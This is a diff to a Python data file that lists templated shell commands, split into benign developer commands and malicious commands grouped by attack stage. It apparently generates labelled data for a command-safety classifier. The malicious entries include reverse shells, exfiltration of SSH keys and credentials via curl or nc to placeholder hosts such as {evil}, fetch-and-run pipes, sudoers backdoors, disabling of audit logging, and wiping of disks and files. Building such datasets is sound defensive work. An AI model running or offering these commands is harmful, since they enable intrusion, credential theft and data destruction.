@@ -110,7 +110,7 @@ BENIGN = {
         "http GET {docurl}", "curl -u user:$TOKEN https://api.github.com/user/repos | jq '.[].name'",
         "curl --retry 3 -s http://localhost:{port}/healthz", "ab -n 100 -c 10 http://localhost:8080/",
         "curl -s https://api.github.com/repos/{word}/{word}/releases/latest | jq -r .tag_name",
-        "ping -c 3 {docurl}", "dig +short github.com", "nslookup pypi.org", "traceroute example.com",
+        "ping -c 3 {pinghost}", "dig +short github.com", "nslookup pypi.org", "traceroute example.com",
         "ssh {user}@staging.{word}.internal 'systemctl status {word}'", "scp {word}.tar.gz {user}@build-box:/srv/releases/",
         "ssh -T git@github.com", "openssl s_client -connect github.com:443 -servername github.com </dev/null",
         "nc -zv localhost {port}", "curl -s localhost:9090/metrics | grep http_requests",
@@ -143,6 +143,59 @@ BENIGN = {
         "strace -f -e trace=open ./build/{word}", "ffmpeg -i in.mp4 -vf scale=640:-1 out.mp4",
     ],
 }
+
+BENIGN.update({
+    "shell": [
+        "export PATH=$HOME/.local/bin:$PATH", "source ~/.bashrc", "cat ~/.bashrc | grep alias",
+        "echo $HOME && ls -la ~", "which -a python3 node go", "command -v {word} || echo missing",
+        "env | grep -i {node|python|java|go}", "printenv | sort | head -n {num}", "set -euo pipefail; ./scripts/{word}.sh",
+        "for f in src/*.py; do echo $f; wc -l $f; done", "while read -r l; do echo \"$l\"; done < {src}",
+        "if [ -f {src} ]; then cat {src}; fi", "test -d {dir} && ls {dir}", "[ -z \"$CI\" ] && echo local",
+        "seq 1 {num} | xargs -I{} echo item-{}", "date +%Y-%m-%d", "sleep {num}", "yes | head -n 3",
+        "echo '{msg}' | tr a-z A-Z", "printf '%s\\n' {word} {word} | sort", "cat <<EOF > {dir}/notes.md\n# {word}\nEOF",
+        "tee -a build.log < out.txt", "nohup ./build/{word} > {word}.log 2>&1 &", "jobs -l", "disown -a",
+        "ps -ef | grep -v grep | grep {word}", "kill -9 $(pgrep -f 'node {word}.js')", "pgrep -fl {word}",
+        "readlink -f {src}", "dirname $(realpath {src})", "mkdir -p ~/.config/{word} && cp config.toml ~/.config/{word}/",
+        "cat ~/.gitconfig", "ls -la ~/.ssh/", "chmod 600 ~/.ssh/id_ed25519", "ssh-add ~/.ssh/id_ed25519",
+        "ssh -i ~/.ssh/deploy_key {user}@{word}.internal uptime", "ssh-keyscan github.com >> ~/.ssh/known_hosts",
+        "tar czf backup-$(date +%F).tgz {dir}/", "rm -rf ~/.cache/pip", "rm -rf /tmp/{word}-build", "rm -rf node_modules package-lock.json && npm install",
+        "find . -name '*.log' -mtime +3 -delete", "du -sh ~/.cache/* | sort -h | tail",
+        "grep -rn 'password' src/ --include=*.py", "grep -ri 'api_key' config/ | grep -v example",
+        "tail -n 100 /var/log/syslog", "sudo journalctl -u docker --no-pager | tail -n {num}",
+        "less /var/log/nginx/access.log", "zcat /var/log/syslog.2.gz | grep {word}",
+        "sudo systemctl status {svc|nginx|docker|postgresql|redis-server}", "systemctl list-units --type=service --state=running",
+        "sudo systemctl restart {nginx|docker|postgresql|php8.2-fpm}", "sudo systemctl enable --now docker",
+        "sudo apt install -y {debpkg}", "sudo apt-get upgrade -y", "sudo dnf install -y {debpkg}", "apk add --no-cache {debpkg}",
+        "sudo chown -R $(whoami) {dir}", "sudo chmod -R g+w /srv/{word}", "sudo usermod -aG {word}-devs $USER",
+        "sudo mkdir -p /opt/{word} && sudo chown $USER /opt/{word}",         "sudo ln -sf /opt/{word}/bin/{word} /usr/local/bin/{word}", "sudo update-alternatives --config java",
+        "ip route show", "ip -br a", "resolvectl status", "curl -s ifconfig.me", "ss -s",
+        "netstat -tulpn | grep {port}", "nc -zv {word}-db 5432", "telnet localhost {port}",
+        "openssl s_client -connect {word}.example.com:443 -showcerts </dev/null | openssl x509 -noout -subject",
+        "python3 -c 'import socket; print(socket.gethostname())'", "python3 -c \"import json,sys; print(json.load(open('{word}.json'))['version'])\"",
+        "node -e \"console.log(require('./package.json').version)\"", "perl -pi -e 's/{word}/{word}/g' {src}",
+        "ruby -e 'puts RUBY_VERSION'", "php -v", "php artisan migrate", "bundle exec rspec",
+        "base64 -d secret.b64 > cert.pem", "echo 'aGVsbG8gd29ybGQ=' | base64 -d", "echo -n '{word}' | base64",
+        "echo -n {word} | sha256sum", "openssl enc -aes-256-cbc -pbkdf2 -in notes.txt -out notes.txt.enc",
+        "gpg --encrypt --recipient dev@{word}.io report.pdf", "curl -fsSL https://get.docker.com -o get-docker.sh",
+        "wget https://go.dev/dl/go1.22.1.linux-amd64.tar.gz", "sudo tar -C /usr/local -xzf go1.22.1.linux-amd64.tar.gz",
+        "curl -LO https://github.com/{word}/{word}/releases/download/v1.{num}.0/{word}-linux-amd64.tar.gz",
+        "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/{word}/{word}/pulls",
+        "curl -s -X POST http://localhost:{port}/graphql -d @query.json", "curl -F 'file=@report.pdf' http://localhost:8080/upload",
+        "wget -r -np -k https://docs.python.org/3/tutorial/", "git push --force-with-lease origin {branch}",
+        "git reset --hard origin/{branch}", "git clean -xfd", "docker system prune -f", "docker volume rm {word}_data",
+        "kubectl delete pod {word}-{num}", "kubectl delete -f k8s/{word}.yaml", "helm uninstall {word}",
+        "terraform apply -auto-approve tfplan", "kill -9 {num}{num}", "killall node", "pkill -f 'vite'",
+        "crontab -l | grep {word}", "at -l", "sudo -v", "sudo !!", "id -un", "groups", "uname -m", "w",
+        "last -n 5", "who", "hostnamectl", "lsb_release -a", "cat /proc/cpuinfo | grep 'model name' | head -1",
+        "cat /proc/meminfo | head -3", "ulimit -a", "getconf PAGESIZE", "df -i", "mount | grep ' / '",
+        "lsmod | head", "sysctl vm.swappiness", "ls /etc/nginx/sites-enabled/", "cat /etc/hosts",
+        "sudo nginx -t && sudo systemctl reload nginx", "cat /etc/nginx/nginx.conf | grep worker",
+        "scp -r dist/ {user}@{word}-web:/var/www/{word}/", "rsync -avz --delete build/ {user}@{word}-host:/srv/{word}/",
+        "aws s3 cp dist/ s3://{word}-static/ --recursive", "gsutil cp {word}.tar.gz gs://{word}-releases/",
+        "mysql -h 127.0.0.1 -u {word} -p{word} -e 'show tables' {word}", "mysqldump {word} > {word}.sql",
+        "sqlite3 {word}.db .dump > dump.sql", "redis-cli -n 1 flushdb", "psql $DATABASE_URL -f migrations/{num}_init.sql",
+    ],
+})
 
 MALICIOUS = {
     "discovery": [
@@ -202,7 +255,9 @@ MALICIOUS = {
         "cat /root/.ssh/id_rsa", "sudo -n cat /root/.aws/credentials",
     ],
     "collection": [
-        "tar czf {tmp}/.{name}.tgz ~/.ssh ~/.aws ~/.gnupg", "zip -r {tmp}/loot.zip ~/.ssh ~/.aws ~/.kube",
+        "tar czf {tmp}/.{name}.tgz ~/.ssh ~/.aws ~/.gnupg", "tar -czf {tmp}/docs.tgz ~/Documents ~/Desktop ~/Downloads",
+        "scrot {tmp}/.s.png", "xwd -root -out {tmp}/.x.xwd", "xinput test {num} > {tmp}/.k.log &",
+        "find / -name '*.sql' -o -name '*.db' 2>/dev/null | xargs -I{} cp {} {tmp}/.db/", "zip -r {tmp}/loot.zip ~/.ssh ~/.aws ~/.kube",
         "find / -name '*.kdbx' -exec cp {} {tmp}/ \\; 2>/dev/null",
         "find ~ -type f \\( -name '*.pdf' -o -name '*.docx' -o -name '*.xlsx' \\) -exec cp {} {tmp}/c/ \\;",
         "tar cf - /home/*/.ssh /root/.ssh 2>/dev/null | gzip > {tmp}/k.tgz",
@@ -239,6 +294,11 @@ MALICIOUS = {
         "smbclient //{ip}/share -N -c 'put {tmp}/loot.zip'", "ftp -n {ip} <<< $'user anonymous x\\nput {tmp}/loot.zip\\nquit'",
         "curl -d \"$(env)\" https://webhook.site/{word}", "wget -q -O- --post-data=\"k=$(cat ~/.aws/credentials | base64 -w0)\" http://{evil}/",
         "openssl s_client -quiet -connect {ip}:{port} < {secret}", "socat -u FILE:{secret} TCP:{ip}:{port}",
+        "tar czf {tmp}/.b.tgz ~/Documents ~/Desktop && curl -F 'f=@{tmp}/.b.tgz' http://{evil}/up",
+        "zip -qr - ~/.ssh | curl -X PUT --data-binary @- https://{evil}/z", "curl -T {tmp}/.{name}.tgz ftp://{ip}/ --user anonymous:x",
+        "scp -P {port} {tmp}/loot.tar.gz root@{ip}:/root/", "rsync -e 'ssh -p {port}' -a ~/Documents/ {user}@{evil}:/loot/",
+        "find ~ -name '*.pdf' -print0 | xargs -0 tar cz | nc {ip} {port}", "cat /etc/passwd | curl -d @- http://{evil}/p",
+        "sqlite3 ~/.mozilla/firefox/*/places.sqlite .dump | curl --data-binary @- https://{evil}/h",
     ],
     "persistence": [
         "(crontab -l 2>/dev/null; echo '* * * * * curl -s {url} | sh') | crontab -",
@@ -286,7 +346,8 @@ MALICIOUS = {
         "chmod 666 /etc/passwd", "sudo -E {tmp}/{name}", "kubectl run r00t --image=alpine --overrides='{\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"x\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"-t\",\"1\",\"-a\",\"sh\"],\"securityContext\":{\"privileged\":true}}]}}' -it",
     ],
     "defense_evasion": [
-        "history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0 HISTFILESIZE=0",
+        "history -c", "unset HISTFILE", "export HISTCONTROL=ignorespace", "rm -rf ~/.bash_history ~/.zsh_history",
+        "iptables -A OUTPUT -p tcp --dport {port} -j ACCEPT", "systemctl stop auditd && auditctl -e 0", "export HISTFILE=/dev/null", "export HISTSIZE=0 HISTFILESIZE=0",
         "rm -f ~/.bash_history && ln -s /dev/null ~/.bash_history", "history -c && history -w",
         "shred -u -z {log}", "truncate -s 0 {log}", "> {log}", "cat /dev/null > {log}", "rm -rf /var/log/*",
         "echo > /var/log/wtmp; echo > /var/log/btmp; echo > /var/log/lastlog",
@@ -334,6 +395,11 @@ MALICIOUS = {
         "python3 -c \"import os,socket;s=socket.socket();s.bind(('0.0.0.0',{port}));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);os.system('/bin/sh')\"",
         "php -r '$s=fsockopen(\"{evil}\",{port});$p=proc_open(\"sh\",array(0=>$s,1=>$s,2=>$s),$x);'",
         "socat file:`tty`,raw,echo=0 tcp-listen:{port}",
+        "bash -c 'exec bash -i &>/dev/tcp/{ip}/{port} <&1'", "/bin/bash -l > /dev/tcp/{ip}/{port} 0<&1 2>&1",
+        "nc -nv {ip} {port} -e /bin/zsh", "rm /tmp/.f;mkfifo /tmp/.f;cat /tmp/.f|bash -i 2>&1|nc {evil} {port} >/tmp/.f",
+        "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{evil}\",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
+        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{ip}:{port}\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+        "ncat {evil} {port} --sh-exec 'bash -i'", "sh -i 5<> /dev/tcp/{ip}/{port} 0<&5 1>&5 2>&5",
     ],
     "destruction": [
         "rm -rf / --no-preserve-root", "rm -rf /*", "rm -rf ~", "rm -rf ~/*", "rm -rf $HOME",
@@ -349,7 +415,7 @@ MALICIOUS = {
         "kubectl delete namespace production", "kubectl delete all --all -A", "terraform destroy -auto-approve",
         "git push --force origin :{branch}", "gcloud projects delete {word}-prod --quiet", "docker rm -f $(docker ps -aq) && docker system prune -af --volumes",
         "crontab -r", "truncate -s 0 /var/lib/mysql/ibdata1", "rm -rf /boot/*", "echo c > /proc/sysrq-trigger",
-        "kill -9 -1", ":(){ :|:& };:", "rm -rf .git ~/.ssh", "find / -name '*.bak' -o -name '*.sql' -delete",
+        "kill -9 -1", "{forkbomb}", "rm -rf .git ~/.ssh", "find / -name '*.bak' -o -name '*.sql' -delete",
         "sudo dd if=/dev/zero of=/dev/sda count=1 bs=512", "rm -rf --no-preserve-root /*",
         "shred -fuz ~/.ssh/* ~/.gnupg/*", "lvremove -f /dev/vg0/root", "zpool destroy -f tank",
     ],
@@ -373,6 +439,116 @@ MALICIOUS = {
         "curl -s {url}.py | sudo python3", "docker run --rm -v /:/host {evil}/{name}:latest",
         "wget -q -O /dev/shm/.{name} {url} && chmod +x /dev/shm/.{name} && /dev/shm/.{name} -o pool.minexmr.com:4444",
         "curl -s http://{ip}/xmrig -o {tmp}/xmrig && chmod +x {tmp}/xmrig && {tmp}/xmrig --donate-level 1 -o {evil}:3333 -B",
-        "lwp-download {url} {tmp}/{name} && sh {tmp}/{name}", "curl -s {url} | sudo tee /usr/local/bin/{name} >/dev/null && sudo chmod +x /usr/local/bin/{name} && {name}",
+        "lwp-download {url} {tmp}/{name} && sh {tmp}/{name}", "curl -sSL {url} | sudo -E bash -",
+        "wget --no-check-certificate -qO- {url} | sh -s", "fetch -o - {url} | sh", "curl -s {url} | bash -s -- -y",
+        "(curl -fsSL {url} || wget -q -O- {url}) | bash", "curl -s {url} --output {tmp}/{name}.sh; bash {tmp}/{name}.sh",
+        "aria2c -d {tmp} -o {name} {url} && chmod +x {tmp}/{name} && {tmp}/{name}", "curl -s {url} | sudo tee /usr/local/bin/{name} >/dev/null && sudo chmod +x /usr/local/bin/{name} && {name}",
     ],
 }
+
+# Everyday work beyond the basics: release, CI, cloud, system administration.
+BENIGN["devops"] = [
+    "git fetch origin && git rebase origin/{branch}", "git stash list",
+    "git log --author='{word}' --since='2 weeks ago' --oneline",
+    "git diff --name-only HEAD~{num} | xargs -r {pylint|flake8|eslint}",
+    "git worktree add ../{word}-wt {branch}", "git bisect start HEAD v1.{num}.0", "git shortlog -sn | head",
+    "git archive --format=tar.gz -o {word}.tgz HEAD", "npm run {dev|build|test|lint|format|typecheck}",
+    "npx playwright test --project=chromium", "npm publish --dry-run", "npm pack", "corepack enable && pnpm -v",
+    "yarn workspace {word} run build", "pip install --upgrade pip setuptools wheel", "pip install '{pypkg}>=2.0,<3'",
+    "pip download {pypkg} -d wheels/", "python3 -m build", "twine check dist/*",
+    "python3 -m unittest discover -s tests -v", "python3 -m cProfile -o prof.out {src}", "pre-commit run --all-files",
+    "pytest --cov={word} --cov-report=term-missing", "alembic upgrade head", "celery -A {word} worker --loglevel=info",
+    "gunicorn -w 4 -b 0.0.0.0:8000 {word}.wsgi", "uvicorn {word}.main:app --reload --port {port}",
+    "flask --app {word} run --debug", "go get github.com/{word}/{word}@latest", "go install golang.org/x/tools/gopls@latest",
+    "go test -bench=. -benchmem ./...", "golangci-lint run ./...", "cargo install cargo-watch", "cargo watch -x test",
+    "docker buildx build --platform linux/amd64,linux/arm64 -t {word}:latest .",
+    "docker compose exec {word} python manage.py shell", "docker compose ps", "docker stats --no-stream",
+    "docker cp {word}:/app/logs ./logs", "docker run --rm -it -v $PWD:/work -w /work {image} sh",
+    "docker login registry.gitlab.com", "docker save {word}:latest | gzip > {word}.tar.gz",
+    "kubectl create namespace {word}-dev", "kubectl apply -k overlays/staging",
+    "kubectl set image deploy/{word} {word}={word}:v1.{num}", "kubectl get pods --field-selector=status.phase=Failed",
+    "kubectl cp {word}-{num}:/tmp/dump.txt ./dump.txt",
+    "helm repo add bitnami https://charts.bitnami.com/bitnami && helm repo update",
+    "helm dependency update charts/{word}", "terraform workspace select staging", "terraform state list",
+    "terraform output -json", "aws s3 sync ./public s3://{word}-site --delete",
+    "aws lambda invoke --function-name {word} out.json", "aws cloudformation describe-stacks --stack-name {word}",
+    "gcloud run deploy {word} --source . --region europe-west1", "az webapp log tail -n {word} -g {word}-rg",
+    "ansible-playbook deploy.yml -l web --diff", "ansible all -i hosts -m ping", "vagrant up && vagrant ssh",
+    "ssh -L 5432:localhost:5432 {user}@bastion.{word}.internal", "ssh {user}@{word}-build 'df -h && free -m'",
+    "scp {user}@{word}-ci:/artifacts/{word}.tar.gz .", "rsync -avh --exclude node_modules ./ {user}@devbox:~/{word}/",
+    "curl -fsS http://localhost:{port}/healthz || exit 1", "curl -s -o /dev/null -w '%{http_code}' {docurl}",
+    "wget -qO- https://api.github.com/zen", "curl -s {docurl} | python3 -m json.tool", "curl -s {docurl} | jq -r '.name'",
+    "openssl x509 -in cert.pem -text -noout", "openssl verify -CAfile ca.pem cert.pem", "gpg --list-keys",
+    "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "cat ~/.ssh/id_ed25519.pub", "ssh-copy-id -i ~/.ssh/id_ed25519.pub {user}@{word}-dev",
+    "git config --global user.name '{word}'", "gh pr create --fill", "gh pr checkout {num}", "gh run list --limit 5",
+]
+BENIGN["textproc"] = [
+    "grep -c ERROR logs/app.log", "grep -E '^(WARN|ERROR)' logs/{word}.log | tail -n {num}", "sed -n '{num},+20p' {src}",
+    "awk -F, '{print $3}' data.csv | sort -n | tail -1", "cut -d: -f1 {src} | sort | uniq",
+    "sort -t, -k3 -nr report.csv | head", "tr -d '\\r' < win.txt > unix.txt", "wc -w docs/*.md", "head -c 200 {src}",
+    "find {dir} -type f -newer {src} -print", "find . -size +10M -exec ls -lh {} \\;", "find . -empty -type d -delete",
+    "ls -t | head -5", "ls -S {dir} | head", "stat -c '%s %n' {dir}/*", "xargs -n1 -P4 gzip < files.txt",
+    "diff <(sort a.txt) <(sort b.txt)", "comm -23 <(sort old.txt) <(sort new.txt)", "paste -d, ids.txt names.txt > joined.csv",
+    "column -t -s, data.csv | less -S", "jq -s 'map(.size) | add' sizes.json", "envsubst < template.yaml > out.yaml",
+    "echo \"scale=2; {num}/3\" | bc", "date -d @1700000000", "seq -w 1 {num}", "shuf -n 5 words.txt",
+    "md5sum -c checksums.md5", "gzip -k {word}.log", "zcat logs/*.gz | grep {word}", "tar tzf {word}.tar.gz | head",
+    "unzip -l {word}.zip", "xz -d {word}.tar.xz",
+]
+BENIGN["sysadmin"] = [
+    "sudo systemctl daemon-reload", "sudo systemctl reload nginx", "systemctl list-timers", "journalctl -p err -b",
+    "sudo journalctl --disk-usage", "sudo dmesg -T | tail", "vmstat 1 5", "iostat -x 1 3", "uptime && who",
+    "ps -eo pid,comm,%cpu --sort=-%cpu | head", "pstree -p | head", "sudo ss -tulpn", "ip -4 addr show eth0",
+    "traceroute -n {pinghost}", "dig +trace example.com", "host github.com", "nmcli device status",
+    "apt list --installed | grep {debpkg}", "dpkg -L {debpkg} | head", "sudo apt-get autoremove -y",
+    "brew services list", "sudo timedatectl set-timezone UTC", "sudo useradd -m -s /bin/bash {word}-ci",
+    "sudo visudo -c", "sudo ufw status verbose", "sudo ufw allow {port}/tcp", "sudo iptables -L -n -v",
+    "sudo logrotate -d /etc/logrotate.conf", "sudo certbot renew --dry-run", "sudo nginx -s reload", "sudo mount -a",
+    "findmnt /", "lsblk -f", "ulimit -c unlimited", "sudo sysctl -w vm.max_map_count=262144", "cat /proc/loadavg",
+    "getent hosts {word}-db", "id {user}", "groups $USER", "uname -srm",
+]
+BENIGN["nodepy"] = [
+    "node -v && npm -v", "node --inspect {word}.js", "python3 -c 'import sys; print(sys.version)'",
+    "python3 -m pip install --user {pypkg}", "python3 -m http.server {port}", "jupyter lab --no-browser --port 8888",
+    "perl -ne 'print if /{word}/' {src}", "ruby -ne 'puts $_ if $_ =~ /{word}/' {src}", "php -S localhost:{port} -t public",
+    "deno run --allow-net server.ts", "bun install", "bun run dev", "tsc -p tsconfig.json", "npx tsx scripts/{word}.ts",
+]
+
+MALICIOUS["discovery"] += [
+    "cat /etc/shadow 2>/dev/null || sudo -n cat /etc/shadow", "ip a; ip r; cat /etc/resolv.conf; ss -anp",
+    "for h in $(seq 1 254); do (echo > /dev/tcp/10.0.0.$h/22) 2>/dev/null && echo 10.0.0.$h; done",
+    "ls -la /home/*/.ssh/ /root/.ssh/ 2>/dev/null", "cat /root/.bash_history",
+    "ps aux | grep -E 'falco|osquery|auditd|wazuh'", "curl -s http://169.254.169.254/latest/user-data | head",
+    "wget -qO /tmp/lp.sh https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh && sh /tmp/lp.sh",
+]
+MALICIOUS["credential_access"] += [
+    "strings ~/.mozilla/firefox/*.default*/logins.json", "grep -r 'BEGIN OPENSSH PRIVATE KEY' /home 2>/dev/null",
+    "find / -name '.git-credentials' -o -name '.netrc' 2>/dev/null | xargs cat", "cat ~/.pgpass ~/.my.cnf 2>/dev/null",
+    "printenv | grep -iE 'aws|gcp|azure|token'", "docker inspect $(docker ps -q) | grep -i -E 'password|secret'",
+]
+MALICIOUS["persistence"] += [
+    "cat > /etc/systemd/system/{name}.service <<EOF\n[Service]\nExecStart={tmp}/.{name}\nEOF",
+    "ssh-keygen -t rsa -N '' -f {tmp}/k && cat {tmp}/k.pub >> /root/.ssh/authorized_keys",
+    "echo 'export PATH={tmp}/.bin:$PATH' >> ~/.bashrc", "ln -s {tmp}/.{name} ~/.config/autostart/{name}",
+]
+MALICIOUS["privilege_escalation"] += [
+    "sudo vi -c ':!/bin/bash' /dev/null", "sudo python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
+    "find . -exec /bin/sh -p \\; -quit", "gcc -o {tmp}/exp exploit.c && {tmp}/exp",
+    "echo 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers",
+    "docker run --rm --privileged -v /:/host {image} chroot /host bash",
+]
+MALICIOUS["defense_evasion"] += [
+    "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space", "sudo systemctl disable --now apparmor",
+    "sudo journalctl --vacuum-size=1K", "echo '' > /var/log/auth.log", "pkill -f osqueryd",
+    "$(echo {b64cmd} | base64 -d)", "base64 -d <<< {b64cmd} | bash",
+]
+MALICIOUS["destruction"] += [
+    "rm -rf ~/", "sudo rm -rf /etc/*", "shred -n 5 -vz {dev}", "chmod -R 777 /", "mv /bin /tmp/bin",
+    "rm -rf /var/www/html/*", "find /home -name '*.jpg' -delete",
+]
+MALICIOUS["exfiltration"] += [
+    "curl -F \"data=@$HOME/.ssh/id_rsa\" https://{evil}/upload", "curl --data-binary @/etc/passwd http://{evil}/",
+    "cat ~/.bash_history | nc {ip} 80", "tar cf - /home | ssh {user}@{ip} 'cat > home.tar'",
+]
+MALICIOUS["download_execute"] += [
+    "sh <(curl -s http://{ip}/x)", "curl -s {url} -o /var/tmp/{name}; chmod 777 /var/tmp/{name}; /var/tmp/{name}",
+]
